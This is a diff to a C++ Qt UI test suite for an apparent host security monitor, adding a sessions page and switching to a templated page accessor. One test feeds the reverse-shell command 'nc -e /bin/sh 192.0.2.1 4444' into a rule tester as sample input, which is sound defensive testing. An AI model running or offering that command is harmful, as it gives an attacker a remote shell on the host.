@@ -22,6 +22,8 @@
 #include "ui/processes/ProcessPage.h"
 #include "ui/rules/RuleTestBox.h"
 #include "ui/rules/RulesPage.h"
+#include "ui/sessions/SessionTableModel.h"
+#include "ui/sessions/SessionsPage.h"
 #include "ui/settings/SettingEditor.h"
 #include "ui/settings/SettingPanel.h"
 #include "ui/settings/SettingsPage.h"
@@ -40,11 +42,12 @@ class Pages : public testing::Test {
         window.setReachable(true);
         window.setProcesses(fake::processes());
         window.setAlerts(fake::alerts());
-        window.networkPage()->setConnections(fake::connections());
-        window.networkPage()->setBlocks(fake::blocks());
-        window.rulesPage()->setRules(fake::rules());
-        window.settingsPage()->setSettings(fake::settings());
-        window.settingsPage()->setTrust(fake::trust());
+        window.page<ui::NetworkPage>()->setConnections(fake::connections());
+        window.page<ui::NetworkPage>()->setBlocks(fake::blocks());
+        window.page<ui::SessionsPage>()->setSessions(fake::sessions());
+        window.page<ui::RulesPage>()->setRules(fake::rules());
+        window.page<ui::SettingsPage>()->setSettings(fake::settings());
+        window.page<ui::SettingsPage>()->setTrust(fake::trust());
         (void)QTest::qWaitForWindowActive(&window);
     }
     void open(const char* page) {
@@ -85,7 +88,7 @@ class Pages : public testing::Test {
         return false;
     }
     void type(const char* key, const char* text) {
-        window.settingsPage()
+        window.page<ui::SettingsPage>()
             ->panel(QLatin1String(key))
             ->editor()
             ->findChild<QLineEdit*>()
@@ -96,8 +99,10 @@ class Pages : public testing::Test {
 };
 
 TEST_F(Pages, EveryOneIsAKeyAway) {
-    for (const auto& [code, name] :
-         {std::pair{Qt::Key_4, "network"}, {Qt::Key_5, "rules"}, {Qt::Key_6, "settings"}}) {
+    for (const auto& [code, name] : {std::pair{Qt::Key_4, "network"},
+                                     {Qt::Key_5, "sessions"},
+                                     {Qt::Key_6, "rules"},
+                                     {Qt::Key_7, "settings"}}) {
         QTest::keyClick(&window, code, Qt::ControlModifier);
         EXPECT_EQ(window.currentPage(), QLatin1String(name));
     }
@@ -105,13 +110,13 @@ TEST_F(Pages, EveryOneIsAKeyAway) {
 
 TEST_F(Pages, NothingOldIsShownAsNowWhenTheHelperIsGone) {
     window.setReachable(false, QStringLiteral("It is stopped."));
-    for (const char* page : {"network", "rules", "settings"}) {
+    for (const char* page : {"network", "sessions", "rules", "settings"}) {
         open(page);
         EXPECT_TRUE(stateShown(ui::StatePanel::Kind::Problem)) << page;
     }
     window.setReachable(true);
     EXPECT_FALSE(stateShown(ui::StatePanel::Kind::Problem));
-    for (const char* page : {"network", "rules", "settings"}) {
+    for (const char* page : {"network", "sessions", "rules", "settings"}) {
         window.setPageProblem(QLatin1String(page), QStringLiteral("Denied."), true);
         open(page);
         EXPECT_TRUE(stateShown(ui::StatePanel::Kind::NoPermission)) << page;
@@ -119,15 +124,15 @@ TEST_F(Pages, NothingOldIsShownAsNowWhenTheHelperIsGone) {
 }
 
 TEST_F(Pages, AConnectionIsDroppedAfterTheQuestion) {
-    QSignalSpy spy(window.networkPage(), &ui::NetworkPage::dropRequested);
+    QSignalSpy spy(window.page<ui::NetworkPage>(), &ui::NetworkPage::dropRequested);
     open("network");
-    window.networkPage()->select(105);
-    window.networkPage()->drop();
+    window.page<ui::NetworkPage>()->select(105);
+    window.page<ui::NetworkPage>()->drop();
     ASSERT_NE(dialog(), nullptr);
     EXPECT_TRUE(textsOf(dialog()).contains(QStringLiteral("203.0.113.7:4444")));
     click<QPushButton>(dialog(), QStringLiteral("Cancel"));
     EXPECT_EQ(spy.size(), 0);
-    window.networkPage()->drop();
+    window.page<ui::NetworkPage>()->drop();
     click<QPushButton>(dialog(), QStringLiteral("Drop"));
     ASSERT_EQ(spy.size(), 1);
     EXPECT_EQ(spy.front().front().toULongLong(), 105U);
@@ -136,12 +141,12 @@ TEST_F(Pages, AConnectionIsDroppedAfterTheQuestion) {
 TEST_F(Pages, AnAddressIsBlockedOnceHoweverManyConnectionsItHas) {
     model::ConnectionRow twin = fake::connections().changed.front();
     twin.id = 900;
-    window.networkPage()->setConnections({0, false, {twin}, {}});
-    QSignalSpy spy(window.networkPage(), &ui::NetworkPage::blockRequested);
+    window.page<ui::NetworkPage>()->setConnections({0, false, {twin}, {}});
+    QSignalSpy spy(window.page<ui::NetworkPage>(), &ui::NetworkPage::blockRequested);
     open("network");
-    auto* view = window.networkPage()->findChild<QTreeView*>();
+    auto* view = window.page<ui::NetworkPage>()->findChild<QTreeView*>();
     view->selectAll();
-    window.networkPage()->block(3600);
+    window.page<ui::NetworkPage>()->block(3600);
     click<QPushButton>(dialog(), QStringLiteral("Block"));
     QStringList blocked;
     for (const QVariantList& each : spy) {
@@ -154,40 +159,40 @@ TEST_F(Pages, AnAddressIsBlockedOnceHoweverManyConnectionsItHas) {
 
 TEST_F(Pages, AListenerCanNeitherBeDroppedNorBlocked) {
     open("network");
-    window.networkPage()->select(106);
-    window.networkPage()->drop();
-    window.networkPage()->block(0);
+    window.page<ui::NetworkPage>()->select(106);
+    window.page<ui::NetworkPage>()->drop();
+    window.page<ui::NetworkPage>()->block(0);
     EXPECT_EQ(dialog(), nullptr);
 }
 
 TEST_F(Pages, ABlockIsTakenBackWhereItIsShown) {
-    QSignalSpy spy(window.networkPage(), &ui::NetworkPage::unblockRequested);
+    QSignalSpy spy(window.page<ui::NetworkPage>(), &ui::NetworkPage::unblockRequested);
     open("network");
-    click<QToolButton>(window.networkPage(), QStringLiteral("Unblock 203.0.113.7"));
+    click<QToolButton>(window.page<ui::NetworkPage>(), QStringLiteral("Unblock 203.0.113.7"));
     ASSERT_EQ(spy.size(), 1);
     EXPECT_EQ(spy.front().front().toString(), QStringLiteral("203.0.113.7"));
-    window.networkPage()->setBlocks({});
-    EXPECT_FALSE(textsOf(window.networkPage()).contains(QStringLiteral("Blocked")));
+    window.page<ui::NetworkPage>()->setBlocks({});
+    EXPECT_FALSE(textsOf(window.page<ui::NetworkPage>()).contains(QStringLiteral("Blocked")));
 }
 
 TEST_F(Pages, AConnectionLeadsToItsProcess) {
     open("network");
-    window.networkPage()->select(105);
-    Q_EMIT window.networkPage()->processWanted({4242, 4242 * 37});
+    window.page<ui::NetworkPage>()->select(105);
+    Q_EMIT window.page<ui::NetworkPage>()->processWanted({4242, 4242 * 37});
     EXPECT_EQ(window.currentPage(), QStringLiteral("processes"));
 }
 
 TEST_F(Pages, ChosenConnectionsStayChosenWhileOthersComeAndGo) {
     open("network");
-    window.networkPage()->select(105);
+    window.page<ui::NetworkPage>()->select(105);
     model::ConnectionChanges changes;
     changes.gone = {100, 101};
     model::ConnectionRow fresh = fake::connections().changed.front();
     fresh.id = 500;
     changes.changed = {fresh};
-    window.networkPage()->setConnections(changes);
-    QSignalSpy spy(window.networkPage(), &ui::NetworkPage::dropRequested);
-    window.networkPage()->drop();
+    window.page<ui::NetworkPage>()->setConnections(changes);
+    QSignalSpy spy(window.page<ui::NetworkPage>(), &ui::NetworkPage::dropRequested);
+    window.page<ui::NetworkPage>()->drop();
     click<QPushButton>(dialog(), QStringLiteral("Drop"));
     ASSERT_EQ(spy.size(), 1);
     EXPECT_EQ(spy.front().front().toULongLong(), 105U);
@@ -196,8 +201,8 @@ TEST_F(Pages, ChosenConnectionsStayChosenWhileOthersComeAndGo) {
 TEST_F(Pages, TrustFromAConnectionStartsWithTheNarrowestEntry) {
     QSignalSpy spy(&window, &ui::MainWindow::trustRequested);
     open("network");
-    window.networkPage()->select(103);
-    click<QToolButton>(window.networkPage(), QStringLiteral("Trust…"));
+    window.page<ui::NetworkPage>()->select(103);
+    click<QToolButton>(window.page<ui::NetworkPage>(), QStringLiteral("Trust…"));
     ASSERT_NE(dialog(), nullptr);
     EXPECT_TRUE(textsOf(dialog()).contains(QStringLiteral("last 7 days")));
     click<QPushButton>(dialog(), QStringLiteral("Trust"));
@@ -209,7 +214,7 @@ TEST_F(Pages, TrustFromAConnectionStartsWithTheNarrowestEntry) {
 
 TEST_F(Pages, ATrustEntryIsCheckedWhileItIsTyped) {
     open("settings");
-    Q_EMIT window.settingsPage()->trustWanted({{{"path", "/usr/bin/bash"}}, {}, {}, {}});
+    Q_EMIT window.page<ui::SettingsPage>()->trustWanted({{{"path", "/usr/bin/bash"}}, {}, {}, {}});
     auto* made = window.findChild<ui::TrustEntryDialog*>();
     ASSERT_NE(made, nullptr);
     const auto trust = [made] {
@@ -234,11 +239,40 @@ TEST_F(Pages, ATrustEntryIsCheckedWhileItIsTyped) {
     EXPECT_FALSE(trust()) << "the first one was removed";
 }
 
+TEST_F(Pages, SessionsOfOthersAreAskedForAndRefusedPolitely) {
+    auto* page = window.page<ui::SessionsPage>();
+    QSignalSpy spy(page, &ui::SessionsPage::everybodysWanted);
+    open("sessions");
+    click<QToolButton>(page, QStringLiteral("Everybody's"));
+    ASSERT_EQ(spy.size(), 1);
+    EXPECT_TRUE(spy.front().front().toBool());
+    page->showOwnOnly();
+    EXPECT_EQ(spy.size(), 1) << "that was not the person's wish";
+    click<QToolButton>(page, QStringLiteral("Everybody's"));
+    EXPECT_EQ(spy.size(), 2);
+}
+
+TEST_F(Pages, ARefusedLoginLeadsToItsAlert) {
+    model::Alert guess = fake::simpleAlert(900, 5);
+    guess.finding.ruleId = "brute-force";
+    window.upsertAlert(guess);
+    auto* page = window.page<ui::SessionsPage>();
+    open("sessions");
+    EXPECT_FALSE(textsOf(page).contains(QStringLiteral("None was raised")));
+    QSignalSpy spy(page, &ui::SessionsPage::alertWanted);
+    for (QAbstractButton* each : page->findChildren<QAbstractButton*>())
+        if (each->isVisible() && each->inherits("ui::AlertLine"))
+            each->click();
+    ASSERT_EQ(spy.size(), 1);
+    EXPECT_EQ(spy.front().front().toString(), QStringLiteral("id-900"));
+    EXPECT_EQ(window.currentPage(), QStringLiteral("alerts"));
+}
+
 TEST_F(Pages, ARuleIsSwitchedByKeyAndShownOnlyWhenInForce) {
-    QSignalSpy spy(window.rulesPage(), &ui::RulesPage::switchRequested);
+    QSignalSpy spy(window.page<ui::RulesPage>(), &ui::RulesPage::switchRequested);
     open("rules");
-    window.rulesPage()->select(QStringLiteral("cryptominer"));
-    auto* box = window.rulesPage()->findChild<QCheckBox*>();
+    window.page<ui::RulesPage>()->select(QStringLiteral("cryptominer"));
+    auto* box = window.page<ui::RulesPage>()->findChild<QCheckBox*>();
     ASSERT_NE(box, nullptr);
     QTest::mouseClick(box, Qt::LeftButton, {}, QPoint(8, box->height() / 2));
     ASSERT_EQ(spy.size(), 1);
@@ -247,15 +281,15 @@ TEST_F(Pages, ARuleIsSwitchedByKeyAndShownOnlyWhenInForce) {
     EXPECT_TRUE(box->isChecked()) << "nothing has changed yet";
     auto rules = fake::rules();
     rules[2].enabled = false;
-    window.rulesPage()->setRules(rules);
+    window.page<ui::RulesPage>()->setRules(rules);
     EXPECT_FALSE(box->isChecked());
 }
 
 TEST_F(Pages, ARuleThatWouldKillIsAskedAboutFirst) {
-    QSignalSpy spy(window.rulesPage(), &ui::RulesPage::responseRequested);
+    QSignalSpy spy(window.page<ui::RulesPage>(), &ui::RulesPage::responseRequested);
     open("rules");
-    window.rulesPage()->select(QStringLiteral("unknown-process"));
-    auto* response = window.rulesPage()->findChild<QComboBox*>();
+    window.page<ui::RulesPage>()->select(QStringLiteral("unknown-process"));
+    auto* response = window.page<ui::RulesPage>()->findChild<QComboBox*>();
     const auto choose = [response](const char* word) {
         const int at = response->findData(QLatin1String(word));
         response->setCurrentIndex(at);
@@ -275,9 +309,9 @@ TEST_F(Pages, ARuleThatWouldKillIsAskedAboutFirst) {
 
 TEST_F(Pages, ACommandLineIsTestedAndLeadsToTheRule) {
     qRegisterMetaType<ui::RuleTest>();
-    QSignalSpy spy(window.rulesPage(), &ui::RulesPage::testRequested);
+    QSignalSpy spy(window.page<ui::RulesPage>(), &ui::RulesPage::testRequested);
     open("rules");
-    ui::RuleTestBox* box = window.rulesPage()->testBox();
+    ui::RuleTestBox* box = window.page<ui::RulesPage>()->testBox();
     box->test();
     EXPECT_EQ(spy.size(), 0) << "nothing to test yet";
     box->setCommandLine(QStringLiteral("nc -e /bin/sh 192.0.2.1 4444"));
@@ -285,21 +319,23 @@ TEST_F(Pages, ACommandLineIsTestedAndLeadsToTheRule) {
     ASSERT_EQ(spy.size(), 1);
     EXPECT_EQ(spy.front().front().value<ui::RuleTest>().commandLine,
               QStringLiteral("nc -e /bin/sh 192.0.2.1 4444"));
-    window.rulesPage()->setTestResult({{QStringLiteral("second-root-account")}, {}});
-    window.rulesPage()->setKind(1);  // where it is not in sight
+    window.page<ui::RulesPage>()->setTestResult({{QStringLiteral("second-root-account")}, {}});
+    window.page<ui::RulesPage>()->setKind(1);  // where it is not in sight
     QApplication::processEvents();
     click<QToolButton>(box, QStringLiteral("Show the rule Second account with the number 0"));
-    EXPECT_TRUE(textsOf(window.rulesPage()).contains(QStringLiteral("An account with all")));
-    window.rulesPage()->setTestResult({{}, QStringLiteral("<b>not installed</b>\n")});
+    EXPECT_TRUE(
+        textsOf(window.page<ui::RulesPage>()).contains(QStringLiteral("An account with all")));
+    window.page<ui::RulesPage>()->setTestResult({{}, QStringLiteral("<b>not installed</b>\n")});
     EXPECT_TRUE(textsOf(box).contains(QStringLiteral("<b>not installed</b>\\n")));
 }
 
 TEST_F(Pages, ASettingIsSavedOnlyWhenItIsAllowed) {
-    QSignalSpy spy(window.settingsPage(), &ui::SettingsPage::saveRequested);
+    QSignalSpy spy(window.page<ui::SettingsPage>(), &ui::SettingsPage::saveRequested);
     open("settings");
-    window.settingsPage()->showSection(QStringLiteral("resources"));
+    window.page<ui::SettingsPage>()->showSection(QStringLiteral("resources"));
     QApplication::processEvents();
-    ui::SettingPanel* panel = window.settingsPage()->panel(QStringLiteral("resources.cpu_percent"));
+    ui::SettingPanel* panel =
+        window.page<ui::SettingsPage>()->panel(QStringLiteral("resources.cpu_percent"));
     EXPECT_FALSE(panel->isChanged());
     type("resources.cpu_percent", "101");
     panel->save();
@@ -312,17 +348,18 @@ TEST_F(Pages, ASettingIsSavedOnlyWhenItIsAllowed) {
     EXPECT_TRUE(panel->isChanged()) << "it is not in force yet";
     QJsonObject now = fake::settings();
     now.insert("resources", QJsonObject{{"cpu_percent", 70}});
-    window.settingsPage()->setSettings(now);
+    window.page<ui::SettingsPage>()->setSettings(now);
     EXPECT_FALSE(panel->isChanged());
 }
 
 TEST_F(Pages, WhatOneTypesIsNotOverwrittenByWhatArrives) {
     open("settings");
-    ui::SettingPanel* panel = window.settingsPage()->panel(QStringLiteral("ask.timeout_s"));
+    ui::SettingPanel* panel =
+        window.page<ui::SettingsPage>()->panel(QStringLiteral("ask.timeout_s"));
     type("ask.timeout_s", "45");
     QJsonObject now = fake::settings();
     now.insert("ask", QJsonObject{{"timeout_s", 60}});
-    window.settingsPage()->setSettings(now);
+    window.page<ui::SettingsPage>()->setSettings(now);
     EXPECT_EQ(panel->editor()->value(), QJsonValue(45));
     panel->discard();
     EXPECT_EQ(panel->editor()->value(), QJsonValue(60));
@@ -330,18 +367,18 @@ TEST_F(Pages, WhatOneTypesIsNotOverwrittenByWhatArrives) {
 
 TEST_F(Pages, AFileOnlySettingCannotBeEdited) {
     open("settings");
-    ui::SettingPanel* panel = window.settingsPage()->panel(QStringLiteral("mail.server"));
+    ui::SettingPanel* panel = window.page<ui::SettingsPage>()->panel(QStringLiteral("mail.server"));
     ASSERT_NE(panel, nullptr);
     EXPECT_EQ(panel->editor()->findChild<QLineEdit*>(), nullptr);
     EXPECT_FALSE(panel->isChanged());
 }
 
 TEST_F(Pages, ATrustEntryIsRemovedAfterTheQuestion) {
-    QSignalSpy spy(window.settingsPage(), &ui::SettingsPage::untrustRequested);
+    QSignalSpy spy(window.page<ui::SettingsPage>(), &ui::SettingsPage::untrustRequested);
     open("settings");
-    window.settingsPage()->showSection(QStringLiteral("trust"));
-    window.settingsPage()->trust()->select("t2");
-    window.settingsPage()->trust()->remove();
+    window.page<ui::SettingsPage>()->showSection(QStringLiteral("trust"));
+    window.page<ui::SettingsPage>()->trust()->select("t2");
+    window.page<ui::SettingsPage>()->trust()->remove();
     ASSERT_NE(dialog(), nullptr);
     click<QPushButton>(dialog(), QStringLiteral("Remove"));
     ASSERT_EQ(spy.size(), 1);
